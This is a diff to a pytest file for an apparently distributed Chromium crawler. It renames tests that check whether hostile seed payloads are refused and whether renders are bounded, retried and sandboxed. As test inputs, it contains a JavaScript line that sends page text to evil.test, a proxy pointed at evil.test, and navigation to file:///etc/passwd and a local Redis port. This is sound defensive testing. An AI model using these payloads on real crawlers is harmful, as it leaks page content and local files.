@@ -1,8 +1,5 @@
-"""Renders that cannot hang or leak (issue 12): what seeds and payloads may ask of Chromium,
-browser contexts, render bounds, retries of failed renders, and Chromium's sandbox.
-
-Rows 1, 2, 10 and 18 of the issue's table and its fourth deliverable; each test is named
-after the row it proves.
+"""Renders that cannot hang or leak: what seeds and payloads may ask of Chromium, browser
+contexts, render bounds, retries of failed renders, and Chromium's sandbox.
 """
 
 from __future__ import annotations
@@ -91,7 +88,7 @@ def _payload(url: str, *methods: dict[str, Any], **meta: Any) -> str:
     return json.dumps({"url": url, "meta": {"playwright_page_methods": list(methods), **meta}})
 
 
-# -- row 1: page methods on the wire -----------------------------------------------------------
+# -- page methods on the wire ---------------------------------------------------------------------
 
 OFF_SITE = [
     "file:///etc/passwd",
@@ -114,7 +111,7 @@ OFF_SITE = [
 
 
 @pytest.mark.parametrize("target", OFF_SITE, ids=repr)
-def test_row1_goto_off_the_requests_site_is_refused(target) -> None:
+def test_goto_off_the_requests_site_is_refused(target) -> None:
     meta = {"playwright_page_methods": [PageMethod("goto", target)]}
     with pytest.raises(UnserializableRequestError, match="goto"):
         meta_for_wire(meta, f"{SITE}/product/1")
@@ -136,7 +133,7 @@ def test_row1_goto_off_the_requests_site_is_refused(target) -> None:
     ],
     ids=repr,
 )
-def test_row1_navigation_on_the_requests_site_travels(spider, method) -> None:
+def test_navigation_on_the_requests_site_travels(spider, method) -> None:
     request = Request(f"{SITE}/product/1", meta={"playwright_page_methods": [method]})
     copy, _ = decode_request(encode_request(request, spider), spider)
     (decoded,) = copy.meta["playwright_page_methods"]
@@ -148,7 +145,7 @@ def test_row1_navigation_on_the_requests_site_travels(spider, method) -> None:
 
 
 @pytest.mark.parametrize("target", ["file:///etc/passwd", "http://127.0.0.1:6379/"])
-def test_row1_goto_off_site_fails_at_enqueue_and_in_a_payload(spider, target) -> None:
+def test_goto_off_site_fails_at_enqueue_and_in_a_payload(spider, target) -> None:
     request = Request(f"{SITE}/", meta={"playwright_page_methods": [PageMethod("goto", target)]})
     with pytest.raises(UnserializableRequestError, match="leaves the request's site"):
         encode_request(request, spider)
@@ -160,7 +157,7 @@ def test_row1_goto_off_site_fails_at_enqueue_and_in_a_payload(spider, target) ->
 
 
 @pytest.mark.parametrize("name", ["evaluate", "wait_for_function"])
-def test_row1_javascript_page_methods_never_travel(spider, name) -> None:
+def test_javascript_page_methods_never_travel(spider, name) -> None:
     script = "() => fetch('http://evil.test/?' + document.body.innerText)"
     request = Request(f"{SITE}/", meta={"playwright_page_methods": [PageMethod(name, script)]})
     with pytest.raises(UnserializableRequestError, match="runs JavaScript"):
@@ -172,7 +169,7 @@ def test_row1_javascript_page_methods_never_travel(spider, name) -> None:
         allow_page_method(name)
 
 
-def test_row1_javascript_seed_is_refused_as_a_seed() -> None:
+def test_javascript_seed_is_refused_as_a_seed() -> None:
     raw = json.dumps(
         {
             "url": f"{SITE}/",
@@ -195,7 +192,7 @@ def test_row1_javascript_seed_is_refused_as_a_seed() -> None:
         [{"__page_method__": {"method": "screenshot", "kwargs": {"path": "/root/x"}}}],
     ],
 )
-def test_row1_garbage_page_methods_are_refused_with_a_reason(methods) -> None:
+def test_garbage_page_methods_are_refused_with_a_reason(methods) -> None:
     with pytest.raises(UnserializableRequestError) as info:
         meta_for_wire({"playwright_page_methods": methods}, f"{SITE}/")
     assert len(str(info.value)) < 400
@@ -212,7 +209,7 @@ def test_row1_garbage_page_methods_are_refused_with_a_reason(methods) -> None:
     ],
     ids=repr,
 )
-def test_row1_garbage_render_meta_is_refused(meta) -> None:
+def test_garbage_render_meta_is_refused(meta) -> None:
     with pytest.raises(UnserializableRequestError):
         meta_for_wire(meta, f"{SITE}/")
 
@@ -249,7 +246,7 @@ _methods = st.lists(
 
 @hypothesis_settings(max_examples=300, deadline=None)
 @given(meta=st.dictionaries(_keys, _json | _methods, max_size=4), url=st.text(max_size=40))
-def test_row1_any_meta_is_sent_as_is_or_refused_with_a_reason(meta, url) -> None:
+def test_any_meta_is_sent_as_is_or_refused_with_a_reason(meta, url) -> None:
     try:
         sent = meta_for_wire(meta, f"{SITE}/{url}")
     except UnserializableRequestError as exc:
@@ -261,7 +258,7 @@ def test_row1_any_meta_is_sent_as_is_or_refused_with_a_reason(meta, url) -> None
     assert set(sent) <= set(meta)
 
 
-def test_row1_render_rules_may_run_javascript() -> None:
+def test_render_rules_may_run_javascript() -> None:
     (rule,) = parse_render_rules(
         {"/p/": [{"method": "evaluate", "args": ["() => window.scrollTo(0, 1e6)"]}]}
     )
@@ -270,7 +267,7 @@ def test_row1_render_rules_may_run_javascript() -> None:
         parse_render_rules({"/p/": [{"method": "add_init_script", "args": ["1"]}]})
 
 
-def test_row1_what_a_rule_added_is_left_out_on_the_wire_and_added_again(spider) -> None:
+def test_what_a_rule_added_is_left_out_on_the_wire_and_added_again(spider) -> None:
     rule = {r"/product/": [{"method": "evaluate", "args": ["() => 1"]}]}
     mw = _middleware(PLAYWRIGHT_RENDER_URLS=rule)
     request = Request(f"{SITE}/product/1", meta={"render_fallback": True})
@@ -293,7 +290,7 @@ def test_row1_what_a_rule_added_is_left_out_on_the_wire_and_added_again(spider) 
     assert [m.method for m in again.meta["playwright_page_methods"]] == ["evaluate"]
 
 
-def test_row1_a_forged_rule_marker_only_removes_meta(spider) -> None:
+def test_a_forged_rule_marker_only_removes_meta(spider) -> None:
     for marker in (["playwright", 5, {"x": 1}, ["y"]], "playwright", 7, None):
         meta = {RULE_META_KEY: marker, "playwright": True, "keep": 1}
         sent = meta_for_wire(meta, f"{SITE}/")
@@ -301,10 +298,10 @@ def test_row1_a_forged_rule_marker_only_removes_meta(spider) -> None:
         assert sent["keep"] == 1
 
 
-# -- row 2: browser contexts and process-local meta --------------------------------------------
+# -- browser contexts and process-local meta ------------------------------------------------------
 
 
-def test_row2_context_outside_the_allow_list_renders_in_the_fleets(caplog) -> None:
+def test_context_outside_the_allow_list_renders_in_the_fleets(caplog) -> None:
     mw = _middleware(PLAYWRIGHT_MAX_CONTEXTS=2, PLAYWRIGHT_CONTEXTS={"login": {}})
     names = ["other", "login", None, "fleet-9", 5, ["x"], "default"]
     requests = [
@@ -327,7 +324,7 @@ def test_row2_context_outside_the_allow_list_renders_in_the_fleets(caplog) -> No
     assert len([r for r in caplog.records if "PLAYWRIGHT_CONTEXTS" in r.getMessage()]) == 1
 
 
-def test_row2_context_kwargs_of_a_request_are_ignored() -> None:
+def test_context_kwargs_of_a_request_are_ignored() -> None:
     mw = _middleware()
     kwargs = {"proxy": {"server": "http://evil.test:3128"}, "offline": True}
     request = Request(f"{SITE}/", meta={"playwright": True, "playwright_context_kwargs": kwargs})
@@ -337,14 +334,14 @@ def test_row2_context_kwargs_of_a_request_are_ignored() -> None:
 
 
 @pytest.mark.parametrize(("contexts", "maximum"), [({"a": {}}, 1), ({"a": {}, "b": {}}, 2)])
-def test_row2_named_contexts_that_leave_no_fleet_context_are_refused(contexts, maximum) -> None:
+def test_named_contexts_that_leave_no_fleet_context_are_refused(contexts, maximum) -> None:
     settings = Settings({"PLAYWRIGHT_CONTEXTS": contexts, "PLAYWRIGHT_MAX_CONTEXTS": maximum})
     with pytest.raises(RenderingConfigError, match="must be more than"):
         RenderingConfig.from_settings(settings)
 
 
 @pytest.mark.parametrize("key", ["playwright_include_page", "playwright_page"])
-def test_row2_process_local_meta_is_refused_on_the_wire(spider, key) -> None:
+def test_process_local_meta_is_refused_on_the_wire(spider, key) -> None:
     with pytest.raises(UnserializableRequestError, match=key):
         meta_for_wire({key: True}, f"{SITE}/")
     request = Request(f"{SITE}/", meta={"playwright": True, key: True})
@@ -357,7 +354,7 @@ def test_row2_process_local_meta_is_refused_on_the_wire(spider, key) -> None:
         parse_seed(payload.encode(), 65536)
 
 
-# -- deliverable 4: render bounds ----------------------------------------------------------------
+# -- render bounds --------------------------------------------------------------------------------
 
 
 def test_d4_every_render_is_bounded_by_default() -> None:
@@ -398,21 +395,21 @@ def test_d4_addon_renders_with_the_bounded_handler() -> None:
     assert load_object(handlers["https"]) is BoundedPlaywrightHandler
 
 
-# -- row 10: failed renders are retried, then dead-lettered -----------------------------------
+# -- failed renders are retried, then dead-lettered -----------------------------------------------
 
 
-def test_row10_playwright_errors_are_retried() -> None:
+def test_playwright_errors_are_retried() -> None:
     exceptions = RetryConfig.from_settings(_project_settings()).exceptions
     for error in (playwright_api.Error, playwright_api.TimeoutError, TargetClosedError):
         assert issubclass(error, exceptions), error
     assert {load_object(name) for name in RENDER_RETRY_EXCEPTIONS} == {playwright_api.Error}
 
 
-# -- row 18: Chromium's sandbox ----------------------------------------------------------------
+# -- Chromium's sandbox ---------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize(("euid", "sandboxed"), [(1000, True), (0, False)])
-def test_row18_chromium_is_sandboxed_unless_the_node_is_root(monkeypatch, euid, sandboxed) -> None:
+def test_chromium_is_sandboxed_unless_the_node_is_root(monkeypatch, euid, sandboxed) -> None:
     monkeypatch.setattr(browser.os, "geteuid", lambda: euid)
     settings = _project_settings()
     options = settings.getdict("PLAYWRIGHT_LAUNCH_OPTIONS")
@@ -422,7 +419,7 @@ def test_row18_chromium_is_sandboxed_unless_the_node_is_root(monkeypatch, euid, 
     assert PlaywrightConfig.from_settings(settings).launch_options["chromium_sandbox"] is sandboxed
 
 
-def test_row18_the_projects_own_sandbox_choice_wins(monkeypatch) -> None:
+def test_the_projects_own_sandbox_choice_wins(monkeypatch) -> None:
     monkeypatch.setattr(browser.os, "geteuid", lambda: 1000)
     settings = _project_settings(
         PLAYWRIGHT_LAUNCH_OPTIONS={"chromium_sandbox": False, "args": ["--disable-gpu"]}
@@ -443,7 +440,7 @@ def _launch_and_close(settings: Settings) -> None:
 
 
 @pytest.mark.skipif(os.geteuid() != 0, reason="the node must run as root")
-def test_row18_root_node_warns_why_chromium_runs_without_sandbox(caplog) -> None:
+def test_root_node_warns_why_chromium_runs_without_sandbox(caplog) -> None:
     settings = _project_settings()
     with caplog.at_level(logging.WARNING, logger="project.rendering.browser"):
         _launch_and_close(settings)
@@ -519,7 +516,7 @@ asyncio.run(main())
 
 
 @pytest.mark.crawl
-def test_row18_a_non_root_node_renders_in_chromiums_sandbox() -> None:
+def test_a_non_root_node_renders_in_chromiums_sandbox() -> None:
     """As the shipped units run it: a user other than root, Chromium's renderers sandboxed."""
     argv = [sys.executable, "-c", _SANDBOX_PROBE]
     home = Path(tempfile.mkdtemp(prefix="fleetcrawl-sandbox-"))
@@ -615,7 +612,7 @@ def _products(shop, count: int) -> list[str]:
 
 
 @pytest.mark.crawl
-def test_row10_failed_renders_are_retried_then_dead_lettered(
+def test_failed_renders_are_retried_then_dead_lettered(
     fleet: Fleet, bad_server: _BadServer, redis_client: redis.Redis
 ) -> None:
     """A page that hangs up and one that never answers: two attempts each, then dead letters."""
@@ -682,7 +679,7 @@ def test_d4_render_past_its_bound_is_closed_and_fails_as_a_timeout(
 
 
 @pytest.mark.crawl
-def test_row2_foreign_context_and_include_page_do_not_wedge_renders(
+def test_foreign_context_and_include_page_do_not_wedge_renders(
     fleet: Fleet, make_shop, redis_client: redis.Redis, mongo
 ) -> None:
     """The old deadlock: one context and one page, a seed naming another context, one keeping
@@ -710,7 +707,7 @@ def test_row2_foreign_context_and_include_page_do_not_wedge_renders(
 
 
 @pytest.mark.crawl
-def test_row1_hostile_page_methods_in_seeds_are_dead_lettered(
+def test_hostile_page_methods_in_seeds_are_dead_lettered(
     fleet: Fleet, make_shop, bad_server: _BadServer, redis_client: redis.Redis, mongo
 ) -> None:
     """Seeds that open a local file, another port, or post the page with JavaScript."""
